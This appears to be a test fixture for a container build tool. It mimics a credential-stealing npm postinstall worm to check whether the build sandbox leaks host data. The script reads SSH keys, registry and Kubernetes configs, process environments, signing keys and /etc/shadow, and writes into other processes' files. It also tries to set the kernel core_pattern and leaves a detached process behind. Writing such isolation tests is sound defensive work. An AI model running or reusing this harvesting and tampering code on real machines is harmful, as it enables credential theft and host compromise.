'use strict'
// What an install script that harvests CI credentials does (the npm worms of 2025): it reads
// what it can of the machine it runs on and writes it into its own folder, which toa-push puts
// into the image. found.json is that harvest; seen.json is what the script should see (the
// build's environment, the package files, a tool a build.run line made). It also tries to change
// the machine and leaves a process behind.
const fs = require('fs')
const os = require('os')
const path = require('path')
const cp = require('child_process')

const cap = s => (typeof s === 'string' ? s.slice(0, 8192) : s)
const read = file => { try { return cap(fs.readFileSync(file, 'utf8')) } catch { return null } }
const list = dir => { try { return fs.readdirSync(dir) } catch { return [] } }
const found = {}
// the words a test looks for in the image, spelt apart here so that this file, which is in the
// image too, does not hold them
const MARKER = ['toa', 'host', 'marker'].join('-')
const OWNED = ['owned', 'by', 'a', 'postinstall'].join('-')
const WRITTEN = ['written', 'by', 'a', 'postinstall'].join(' ')
const keep = (what, value) => { if (value !== null && value !== undefined && value !== '') found[what] = value }

// the runner's credentials in the usual places, wherever HOME is
for (const home of new Set([os.homedir(), process.env.HOME, '/root', ...list('/home').map(h => '/home/' + h)])) {
  if (!home) continue
  for (const f of ['.docker/config.json', '.kube/config', '.npmrc', '.ssh/id_rsa', '.config/toa-test-secret']) {
    keep(path.join(home, f), read(path.join(home, f)))
  }
}
// every process it can see: command lines (a --sign-key FILE to read) and environments
for (const pid of list('/proc').filter(n => /^\d+$/.test(n))) {
  const cmdline = read(`/proc/${pid}/cmdline`)
  keep(`/proc/${pid}/cmdline`, cmdline)
  keep(`/proc/${pid}/environ`, read(`/proc/${pid}/environ`))
  const args = (cmdline || '').split('\0')
  for (let i = 0; i < args.length; i++) {
    if (args[i] === '--sign-key' && args[i + 1]) keep(`sign key of ${pid}`, read(args[i + 1]))
    if (args[i].startsWith('--sign-key=')) keep(`sign key of ${pid}`, read(args[i].slice('--sign-key='.length)))
  }
  // another root: the runner's own files through a process that has it
  for (const f of ['etc/shadow', 'etc/hostname', 'tmp']) {
    const p = `/proc/${pid}/root/${f}`
    keep(p, f === 'tmp' ? list(p).filter(n => n.startsWith(MARKER)).join(',') : read(p))
  }
  for (const fd of list(`/proc/${pid}/fd`)) {
    let target = null
    try { target = fs.readlinkSync(`/proc/${pid}/fd/${fd}`) } catch {}
    if (target && target.includes(MARKER)) keep(`/proc/${pid}/fd/${fd}`, target)
    if (target && target.startsWith('/') && !target.startsWith('/dev') && !target.startsWith('/proc')) {
      try { fs.appendFileSync(`/proc/${pid}/fd/${fd}`, WRITTEN + '\n'); keep(`wrote /proc/${pid}/fd/${fd}`, target) } catch {}
    }
  }
}
// the secrets of the environment it was given
for (const [k, v] of Object.entries(process.env)) {
  if (/TOA|COSIGN|DOCKER|KUBE|TOKEN|SECRET|PASSWORD|KEY/i.test(k)) keep(`env ${k}`, v)
}
// the kernel's knobs
for (const [f, v] of [['/proc/sys/kernel/hostname', OWNED], ['/proc/sys/kernel/core_pattern', '|/tmp/owned %p']]) {
  try { fs.writeFileSync(f, v); keep(`wrote ${f}`, v) } catch {}
}
// a process left behind, as a miner or a beacon would be
try {
  const child = cp.spawn('sleep', ['731'], { detached: true, stdio: 'ignore' })
  child.unref()
} catch {}

let tool = null
try { tool = cp.execSync('toa-test-tool', { encoding: 'utf8' }).trim() } catch (e) { tool = 'failed: ' + e.message.split('\n')[0] }
const seen = {
  platform: `${process.platform}/${process.arch} ${process.version}`,
  NODE_ENV: process.env.NODE_ENV || null,
  TOA_TEST_ARGUMENT: process.env.TOA_TEST_ARGUMENT || null,
  INIT_CWD: process.env.INIT_CWD || null,
  packageJSON: read(path.join(process.env.INIT_CWD || '/nowhere', 'package.json')) !== null,
  tool,
  uid: process.getuid(),
  env: Object.keys(process.env).sort(),
}
fs.writeFileSync('found.json', JSON.stringify(found, null, 1) + '\n')
fs.writeFileSync('seen.json', JSON.stringify(seen, null, 1) + '\n')
